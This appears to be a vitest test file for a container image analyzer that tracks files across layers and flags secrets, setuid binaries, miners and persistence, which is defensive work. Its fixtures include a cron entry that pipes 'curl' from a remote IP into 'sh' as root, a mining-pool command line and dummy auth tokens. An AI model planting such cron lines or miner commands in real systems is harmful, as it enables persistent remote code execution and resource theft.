import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type { LayerEntry } from '../../facts/image-scan.js';
import { createAnalyzer } from './index.js';
import { type EntrySpec, entry, goElf } from './testing/entries.js';

async function run(specs: EntrySpec[], opts: Parameters<typeof createAnalyzer>[0] = {}) {
  const a = createAnalyzer(opts);
  for (const s of specs) await a.visit(entry(s));
  return a.finish([], []);
}

const dpkg = (pkgs: [string, string, string?][]): string =>
  pkgs
    .map(
      ([n, v, src]) =>
        `Package: ${n}\nStatus: install ok installed\nArchitecture: amd64\n${src ? `Source: ${src}\n` : ''}Version: ${v}\n`,
    )
    .join('\n');

const OS = 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\n';
const NPMRC = '//registry.npmjs.org/:_authToken=abcdefghijklmnopqrstuvwxyz0123456789\n';

describe('createAnalyzer: final filesystem across layers', () => {
  // Three layers visited out of order (a docker save stream can give any order): 0 base, 1 adds a token and
  // curl, 2 deletes the token (whiteout), replaces /etc/cron.d (opaque) and upgrades a package.
  const layers: EntrySpec[][] = [
    [
      { path: '/etc/os-release', content: OS },
      { path: '/bin/bash', mode: 0o755, content: '\x7fELF' },
      { path: '/etc/cron.d', type: 'dir' },
      { path: '/etc/cron.d/evil', content: '* * * * * root curl -s http://1.2.3.4/x | sh\n' },
      {
        path: '/var/lib/dpkg/status',
        content: dpkg([
          ['libssl3', '3.0.9-1', 'openssl'],
          ['bash', '5.2.15-2'],
        ]),
      },
    ],
    [
      { path: '/root/.npmrc', content: NPMRC },
      { path: '/usr/bin/curl', mode: 0o755, content: 'curl' },
      { path: '/usr/bin/passwd', mode: 0o4755, content: 'x' },
      {
        path: '/var/lib/dpkg/status',
        content: dpkg([
          ['libssl3', '3.0.9-1', 'openssl'],
          ['bash', '5.2.15-2'],
          ['curl', '7.88.1-10'],
        ]),
      },
    ],
    [
      { path: '/root/.npmrc', whiteout: 'file' },
      { path: '/etc/cron.d', whiteout: 'opaque' },
      { path: '/usr/bin/passwd', mode: 0o755, content: 'y' },
      {
        path: '/var/lib/dpkg/status',
        content: dpkg([
          ['libssl3', '3.0.11-1~deb12u2', 'openssl (3.0.11-1~deb12u2)'],
          ['bash', '5.2.15-2'],
          ['curl', '7.88.1-10'],
        ]),
      },
    ],
  ];
  const orders = [
    [0, 1, 2],
    [2, 1, 0],
    [1, 2, 0],
  ];
  it.each(orders)('order %i,%i,%i', async (...order) => {
    const specs = order.flatMap((l) => (layers[l] ?? []).map((s) => ({ ...s, layer: l })));
    const r = await run(specs);

    expect(r.secrets).toEqual([
      expect.objectContaining({
        path: '/root/.npmrc',
        layer: 1,
        rule: 'npmrc-auth-token',
        present: false,
        removedIn: 2,
      }),
    ]);
    const f = (path: string, kind: string) => r.files.find((x) => x.path === path && x.kind === kind);
    expect(f('/bin/bash', 'shell')).toMatchObject({ layer: 0, present: true });
    expect(f('/usr/bin/curl', 'network-tool')).toMatchObject({ layer: 1, present: true });
    expect(f('/usr/bin/passwd', 'setuid')).toMatchObject({ layer: 1, present: false, removedIn: 2 });
    expect(f('/etc/cron.d/evil', 'persistence')).toMatchObject({ layer: 0, present: false, removedIn: 2 });

    expect(r.os).toEqual({
      id: 'debian',
      versionId: '12',
      prettyName: 'Debian GNU/Linux 12 (bookworm)',
      eol: '2028-06-30',
    });
    // The final status wins; each package is attributed to the layer that installed that version.
    expect(r.packages.map((p) => [p.name, p.version, p.layer, p.sourceName, p.sourceVersion])).toEqual([
      ['libssl3', '3.0.11-1~deb12u2', 2, 'openssl', '3.0.11-1~deb12u2'],
      ['bash', '5.2.15-2', 0, 'bash', '5.2.15-2'],
      ['curl', '7.88.1-10', 1, 'curl', '7.88.1-10'],
    ]);
    expect(r.packages[0]?.purl).toBe('pkg:deb/debian/libssl3@3.0.11-1~deb12u2?arch=amd64&distro=debian-12');
    expect(r.packages[0]?.foundIn).toBe('/var/lib/dpkg/status');
  });

  it('a package database deleted in a later layer yields no packages', async () => {
    const r = await run([
      { path: '/lib/apk/db/installed', layer: 0, content: 'P:musl\nV:1.2.4-r2\nA:x86_64\n' },
      { path: '/lib/apk/db', layer: 1, whiteout: 'file' },
    ]);
    expect(r.packages).toEqual([]);
  });

  it('a duplicate entry later in the same layer replaces the earlier one', async () => {
    const r = await run([
      { path: '/app/.env', layer: 0, content: 'API_TOKEN=abcdef0123456789\n' },
      { path: '/app/.env', layer: 0, content: 'PORT=80\n' },
    ]);
    expect(r.secrets).toEqual([expect.objectContaining({ present: false, removedIn: 0 })]);
  });

  it('keeps only the top copy of a secret still present', async () => {
    const r = await run([
      { path: '/root/.npmrc', layer: 3, content: NPMRC },
      { path: '/root/.npmrc', layer: 1, content: NPMRC },
    ]);
    expect(r.secrets.map((s) => [s.layer, s.present])).toEqual([[3, true]]);
  });

  it('prefers /etc/os-release, then /usr/lib/os-release, then release files', async () => {
    const r = await run([
      { path: '/etc/debian_version', content: '11.9\n' },
      { path: '/usr/lib/os-release', content: 'ID=ubuntu\nVERSION_ID="22.04"\n' },
      { path: '/etc/os-release', type: 'symlink', linkname: '../usr/lib/os-release' },
    ]);
    expect(r.os).toMatchObject({ id: 'ubuntu', versionId: '22.04' });
    const fallback = await run([{ path: '/etc/debian_version', content: '9.13\n' }]);
    expect(fallback.os).toMatchObject({ id: 'debian', versionId: '9', eol: '2022-06-30' });
  });
});

describe('createAnalyzer: analyses', () => {
  it('inventories status.d, apk, npm, pypi and Go binaries with purls', async () => {
    const modinfo =
      'path\texample.com/app\nmod\texample.com/app\t(devel)\t\ndep\tgolang.org/x/text\tv0.14.0\th1:x=\n';
    const r = await run([
      {
        path: '/var/lib/dpkg/status.d/tzdata',
        content: 'Package: tzdata\nVersion: 2024a-0+deb12u1\nArchitecture: all\n',
      },
      { path: '/var/lib/dpkg/status.d/tzdata.md5sums', content: 'abc  usr/share/zoneinfo/UTC\n' },
      {
        path: '/app/node_modules/@types/node/package.json',
        content: '{"name":"@types/node","version":"20.11.0","license":"MIT"}',
      },
      {
        path: '/usr/lib/python3/dist-packages/six-1.16.0.dist-info/METADATA',
        content: 'Name: six\nVersion: 1.16.0\n',
      },
      { path: '/app/server', mode: 0o755, content: goElf({ goVersion: 'go1.22.1', modinfo }) },
    ]);
    expect(r.packages.map((p) => p.purl)).toEqual([
      'pkg:deb/debian/tzdata@2024a-0+deb12u1?arch=all',
      'pkg:npm/%40types/node@20.11.0',
      'pkg:pypi/six@1.16.0',
      'pkg:golang/stdlib@v1.22.1',
      'pkg:golang/golang.org/x/text@v0.14.0',
    ]);
    expect(r.packages.find((p) => p.name === 'stdlib')?.foundIn).toBe('/app/server');
  });

  it('reads a Go binary only up to its build info, and reports one past the window', async () => {
    const bin = goElf({ goVersion: 'go1.22.1', modinfo: 'path\tx\n', textSize: 200_000 });
    const a = createAnalyzer({ goWindowBytes: 100_000, binaryScanBytes: 16_384 });
    const e = entry({ path: '/app/big', mode: 0o755, content: bin });
    await a.visit(e);
    expect(Math.max(...e.reads)).toBeLessThanOrEqual(100_000);
    const r = a.finish([], []);
    expect(r.packages).toEqual([]);
    expect(r.problems).toContain('1 Go binaries whose build info lies past the 100000-byte read window');
  });

  it('flags miners by name, by string in binaries and scripts, and deny-listed hashes', async () => {
    const evil = Buffer.from('some payload');
    const sha = createHash('sha256').update(evil).digest('hex');
    const r = await run(
      [
        { path: '/usr/local/bin/xmrig', mode: 0o755, content: '\x7fELF...' },
        {
          path: '/opt/svc',
          mode: 0o755,
          content: Buffer.concat([
            goElf({ goVersion: 'go1.20', modinfo: '' }),
            Buffer.from('--donate-level'),
          ]),
        },
        { path: '/app/run.sh', mode: 0o755, content: '#!/bin/sh\n./w -o stratum+tcp://pool.example:3333\n' },
        { path: '/opt/payload.bin', content: evil },
        { path: '/opt/fine.bin', content: 'fine' },
      ],
      { denySha256: new Set([sha]) },
    );
    expect(r.files.map((f) => [f.path, f.kind])).toEqual([
      ['/usr/local/bin/xmrig', 'miner'],
      ['/opt/svc', 'miner'],
      ['/app/run.sh', 'miner'],
      ['/opt/payload.bin', 'deny-listed'],
    ]);
    expect(r.files[3]?.detail).toBe(`sha256 ${sha}`);
  });

  it('does not hash without a deny-list and reads nothing of uninteresting files', async () => {
    const a = createAnalyzer();
    const e = entry({ path: '/usr/share/zoneinfo/UTC', content: 'TZif2' });
    const png = entry({ path: '/app/logo.png', content: 'PNG' });
    await a.visit(e);
    await a.visit(png);
    expect(e.reads).toEqual([]);
    expect(png.reads).toEqual([]);
  });

  it('skips binary and oversize files for secrets', async () => {
    const token = `ghp_${'aB3dE5gH7jK9mN2pQ4sT6vW8yZaB3dE5gH7j'}`;
    const r = await run(
      [
        { path: '/app/blob.dat', content: Buffer.concat([Buffer.from([0]), Buffer.from(token)]) },
        { path: '/app/big.txt', content: `${'x'.repeat(2000)}${token}` },
        { path: '/app/ok.txt', content: token },
      ],
      { textMaxBytes: 1000 },
    );
    expect(r.secrets.map((s) => s.path)).toEqual(['/app/ok.txt']);
  });

  it('reports an old rpm database and a corrupt one as problems, never throws', async () => {
    const r = await run([
      { path: '/var/lib/rpm/Packages', content: Buffer.alloc(64, 1) },
      {
        path: '/usr/lib/sysimage/rpm/rpmdb.sqlite',
        content: Buffer.from('SQLite format 3\0'.padEnd(200, '\x01'), 'latin1'),
      },
    ]);
    expect(r.problems.some((p) => p.startsWith('rpm database format not supported'))).toBe(true);
    expect(r.problems.some((p) => p.includes('unreadable package database'))).toBe(true);
  });

  it('caps findings per kind', async () => {
    const specs = Array.from({ length: 30 }, (_, i) => ({
      path: `/data/d${i}`,
      type: 'dir' as const,
      mode: 0o777,
    }));
    const r = await run(specs, { maxFindingsPerKind: 10 });
    expect(r.files).toHaveLength(10);
    expect(r.problems).toContain('20 world-writable findings over the cap of 10 not reported');
  });
});

describe('createAnalyzer: memory', () => {
  it('keeps heap growth small over a 1-million-entry layer', async () => {
    const a = createAnalyzer();
    const text = Buffer.from('key=value\n'.repeat(10));
    const read = async (max: number): Promise<Buffer> => text.subarray(0, max);
    globalThis.gc?.();
    const before = process.memoryUsage();
    for (let i = 0; i < 1_000_000; i++) {
      const e: LayerEntry = {
        // Mostly data files nobody reads, one in a thousand a text file that is scanned.
        path:
          i % 1000 === 0
            ? `/srv/conf/dir${i % 1000}/file-${i}.conf`
            : `/usr/share/data/dir${i % 1000}/file-${i}.dat`,
        rawPath: '',
        type: 'file',
        mode: 0o644,
        uid: 0,
        gid: 0,
        size: 100,
        layer: 1,
        read,
      };
      await a.visit(e);
    }
    await a.visit({
      path: '/usr/share/data/dir7/file-7.dat',
      rawPath: '',
      type: 'other',
      whiteout: 'file',
      mode: 0,
      uid: 0,
      gid: 0,
      size: 0,
      layer: 2,
      read,
    });
    globalThis.gc?.();
    const after = process.memoryUsage();
    const r = a.finish([], []);
    expect(r.files).toEqual([]);
    // 1M path strings alone would be ~100 MB; the index keeps 8 bytes an entry (16 while growing).
    const growth = after.heapUsed - before.heapUsed + (after.arrayBuffers - before.arrayBuffers);
    expect(growth).toBeLessThan(48 * 1024 * 1024);
  }, 60_000);
});
